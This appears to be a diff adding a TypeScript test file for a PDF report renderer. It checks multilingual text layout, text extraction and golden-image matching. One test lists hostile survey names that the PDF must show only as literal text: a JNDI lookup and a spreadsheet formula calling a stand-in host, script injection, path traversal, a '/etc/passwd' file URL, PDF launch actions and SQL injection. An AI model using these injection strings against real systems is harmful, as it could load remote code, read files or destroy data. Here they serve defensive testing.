@@ -1,0 +1,177 @@
+// A page in every writing: how it looks, and that a program gets back what was written.
+import assert from 'node:assert/strict';
+import { execFileSync, spawnSync } from 'node:child_process';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { describe, it } from 'node:test';
+import pixelmatch from 'pixelmatch';
+import { PNG } from 'pngjs';
+import type { DocumentInfo } from '../../../lib/adapters/pdf/draw.ts';
+import { draw } from '../../../lib/adapters/pdf/draw.ts';
+import type { Page, Part } from '../../../lib/adapters/pdf/page-elements.ts';
+import { lineAt } from '../../../lib/adapters/pdf/text/typesetter.ts';
+import type { Direction } from '../../../lib/i18n/text-direction.ts';
+import type { Operation } from '../../../lib/charts/draw-operations.ts';
+import { type } from '../../../lib/charts/theme.ts';
+import { messagesFor } from '../../../lib/i18n/catalogues.ts';
+import { LANGUAGES } from '../../../lib/i18n/messages.ts';
+import { reportOf, storeReport } from '../../support/test-reports.ts';
+import { WRITINGS } from '../../support/scripts-of-the-world.ts';
+import { textsOf } from '../../unit/adapters/pdf/read-back.ts';
+import { rendered } from '../../unit/adapters/pdf/rendered.ts';
+
+const tools = ['qpdf', 'pdftoppm'].filter((tool) => spawnSync(tool, ['-v']).error !== undefined);
+const needsTools = { skip: tools.length === 0 ? false : `needs ${tools.join(' and ')}` };
+const golden = new URL('../../golden/writings.png', import.meta.url);
+/** Other versions of the program that paints smooth edges otherwise; a wrong glyph is more than this. */
+const MOST_PIXELS = 400;
+
+const ABOUT: DocumentInfo = {
+  title: 'Writings',
+  language: 'en-GB',
+  at: new Date('2026-11-16T18:00:00Z'),
+  attachment: {
+    name: 'report.json',
+    contentType: 'application/json',
+    description: '',
+    bytes: Buffer.from('{}'),
+  },
+};
+
+function part(operations: readonly Operation[]): Part {
+  return { element: { role: 'P', parent: null }, operations };
+}
+
+function pageOf(direction: Direction): Page {
+  const [width, height] = [595, 30 * WRITINGS.length + 50];
+  const x = direction === 'ltr' ? 190 : width - 190;
+  const align = direction === 'ltr' ? 'left' : 'right';
+  return {
+    width,
+    height,
+    direction,
+    parts: WRITINGS.map(([writing, sample], i) => {
+      const y = 40 + i * 30;
+      return part([
+        ...lineAt(writing, type.label, direction === 'ltr' ? 40 : width - 40, y, align),
+        ...lineAt(sample, type.body, x, y, align),
+        ...lineAt(sample, type.strong, x, y + 13, align),
+      ]);
+    }),
+  };
+}
+
+async function pdf(): Promise<Uint8Array> {
+  return draw([pageOf('ltr'), pageOf('rtl')], ABOUT);
+}
+
+/** Both pages under one another. */
+function painted(bytes: Uint8Array): Buffer {
+  const folder = mkdtempSync(join(tmpdir(), 'writings-'));
+  try {
+    writeFileSync(join(folder, 'page.pdf'), bytes);
+    execFileSync('pdftoppm', ['-r', '75', '-gray', '-png', 'page.pdf', 'page'], { cwd: folder });
+    const [first, second] = ['page-1.png', 'page-2.png'].map((name) =>
+      PNG.sync.read(readFileSync(join(folder, name))),
+    );
+    assert.ok(first !== undefined && second !== undefined);
+    const { width, height } = first;
+    const both = new PNG({ width, height: 2 * height });
+    PNG.bitblt(first, both, 0, 0, width, height, 0, 0);
+    PNG.bitblt(second, both, 0, 0, width, height, 0, height);
+    return PNG.sync.write(both, { colorType: 0 });
+  } finally {
+    rmSync(folder, { recursive: true });
+  }
+}
+
+describe('a page in every writing', () => {
+  it('looks as test/golden/writings.png (UPDATE_GOLDEN=1 writes it)', needsTools, async () => {
+    const picture = painted(await pdf());
+    if (process.env['UPDATE_GOLDEN'] === '1') writeFileSync(golden, picture);
+    const [own, expected] = [PNG.sync.read(picture), PNG.sync.read(readFileSync(golden))];
+    const { width, height } = expected;
+    assert.deepEqual([own.width, own.height], [width, height]);
+    const others = pixelmatch(own.data, expected.data, undefined, width, height, {
+      threshold: 0.3,
+    });
+    assert.ok(others <= MOST_PIXELS, `${String(others)} pixels differ`);
+  });
+
+  it('gives a program back what was written, from either side', needsTools, async () => {
+    const written = WRITINGS.flatMap(([writing, sample]) => [writing, sample, sample]);
+    assert.deepEqual(textsOf(await pdf()), [...written, ...written]);
+  });
+
+  it(
+    'gives back each name, though one glyph stands for characters of several',
+    needsTools,
+    async () => {
+      const names = ['ईमेल कैसा था?', 'इमारत साफ़ थी', 'ऐसा', 'एक', '⽇本', '日本 東京', '❤︎', '❤️'];
+      const operations = names.flatMap((name, i) => lineAt(name, type.body, 40, 40 + i * 20));
+      const page = {
+        width: 595,
+        height: 300,
+        direction: 'ltr',
+        parts: [part(operations)],
+      } as const;
+      assert.deepEqual(textsOf(await draw([page], ABOUT)), names);
+    },
+  );
+
+  it(
+    'keeps the words on both sides of a line’s end apart, in every language',
+    needsTools,
+    async () => {
+      for (const locale of LANGUAGES) {
+        const { bytes } = await rendered(storeReport(1), { locale, paper: 'A4' });
+        const read = textsOf(bytes).join('');
+        const { methodMisuse, methodPooling } = messagesFor(locale);
+        for (const text of [methodMisuse, methodPooling]) {
+          assert.ok(read.includes(text), `${locale}: ${text}`);
+        }
+      }
+    },
+  );
+
+  it('shows hostile names letter by letter, as names and nothing else', needsTools, async () => {
+    const hostile = [
+      '../../x',
+      'a/b',
+      'CON',
+      '%2e%2e',
+      '=HYPERLINK("http://evil.test")',
+      '@SUM(1+1)*cmd',
+      '+1',
+      '-1',
+      '<script>alert(1)</script>',
+      '<b>&amp;</b>',
+      '${jndi:ldap://evil.test}',
+      '{{7*7}}',
+      'javascript:alert(1)',
+      'file:///etc/passwd',
+      'data:text/html,x',
+      ')>> /OpenAction 1 0 R',
+      '<</S/Launch>>',
+      '\\',
+      "'; DROP TABLE x; --",
+    ];
+    const report = reportOf({
+      key: 1,
+      name: 'Kiosk',
+      surveys: hostile.map((name, i) => ({ key: i + 1, name })),
+    });
+    const texts = textsOf((await rendered(report)).bytes);
+    for (const name of hostile) assert.ok(texts.includes(name), name);
+    // What is taken out of a name leaves the rest of it.
+    const [hidden] = textsOf(
+      (
+        await rendered(
+          reportOf({ key: 1, name: 'a\u0000\u001b[31m\u202eb\u200b\ud800', surveys: [] }),
+        )
+      ).bytes,
+    );
+    assert.equal(hidden, 'a[31mb\ufffd');
+  });
+});
